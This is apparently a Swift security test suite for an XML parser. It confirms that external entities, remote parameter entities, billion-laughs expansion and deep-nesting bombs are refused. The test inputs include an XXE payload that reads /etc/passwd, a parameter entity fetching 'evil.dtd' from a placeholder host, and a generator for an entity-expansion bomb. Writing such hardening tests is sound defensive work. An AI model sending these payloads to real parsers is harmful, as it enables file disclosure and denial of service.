import DekkingXML
import Foundation
import Testing

/// Hostile XML: external entities, entity expansion, deep nesting.
@Suite struct XMLParserSecurityTests {
    @Test func externalEntityIsRefusedAndNeverRead() {
        let xml = "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>"
        #expect(throws: XMLParseError.entityDeclarationForbidden(name: "e", line: 1)) {
            try XMLParser.parseXML(Data(xml.utf8))
        }
    }

    @Test func externalEntityNeverAppearsEvenWhenOnlyReferenced() throws {
        // An undeclared reference is an error in libxml2, never a file read.
        let xml = "<x>&e;</x>"
        do throws(XMLParseError) {
            let root = try XMLParser.parseXML(Data(xml.utf8))
            #expect(!root.textContent.contains("root:"))
            #expect(root.textContent.isEmpty)
        } catch {
            #expect(!error.message.contains("root:"))
        }
    }

    @Test func parameterEntityIsRefused() {
        let xml = """
            <!DOCTYPE x [<!ENTITY % remote SYSTEM "http://example.invalid/evil.dtd"> %remote;]>
            <x/>
            """
        #expect(throws: XMLParseError.entityDeclarationForbidden(name: "remote", line: 1)) {
            try XMLParser.parseXML(Data(xml.utf8))
        }
    }

    @Test(.timeLimit(.minutes(1))) func billionLaughsFinishesQuicklyWithoutExpansion() {
        var xml = "<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [\n<!ENTITY lol \"lol\">\n"
        for level in 1...9 {
            let previous = level == 1 ? "lol" : "lol\(level - 1)"
            xml += "<!ENTITY lol\(level) \"" + String(repeating: "&\(previous);", count: 10) + "\">\n"
        }
        xml += "]>\n<lolz>&lol9;</lolz>"
        let start = ContinuousClock.now
        #expect(throws: XMLParseError.entityDeclarationForbidden(name: "lol", line: 3)) {
            try XMLParser.parseXML(Data(xml.utf8))
        }
        #expect(ContinuousClock.now - start < .seconds(2))
    }

    @Test func doctypeWithoutEntitiesIsAcceptedByDefault() throws {
        let xml =
            "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://example.invalid/x.dtd\"><html>tekst</html>"
        #expect(try XMLParser.parseXML(Data(xml.utf8)).textContent == "tekst")
    }

    @Test func anyDoctypeIsRefusedForOfficeParts() {
        let xml = "<?xml version=\"1.0\"?>\n<!DOCTYPE w:document>\n<w:document xmlns:w=\"urn:x\"/>"
        #expect(throws: XMLParseError.doctypeForbidden(line: 2)) {
            try XMLParser.parseXML(Data(xml.utf8), limits: .officePart)
        }
    }

    @Test(.timeLimit(.minutes(1))) func depthBombGivesCleanError() {
        let count = 100_000
        let xml = String(repeating: "<a>", count: count) + "x" + String(repeating: "</a>", count: count)
        #expect {
            try XMLParser.parseXML(Data(xml.utf8))
        } throws: { error in
            guard case .tooDeep(let limit, let line) = error as? XMLParseError else { return false }
            return limit == 256 && line == 1
        }
    }

    @Test(.timeLimit(.minutes(1))) func htmlDepthBombGivesCleanError() {
        let count = 100_000
        let html = "<html><body>" + String(repeating: "<div>", count: count) + "x" + "</body></html>"
        #expect {
            try XMLParser.parseHTML(Data(html.utf8))
        } throws: { error in
            guard case .tooDeep(let limit, _) = error as? XMLParseError else { return false }
            return limit == 256
        }
    }
}
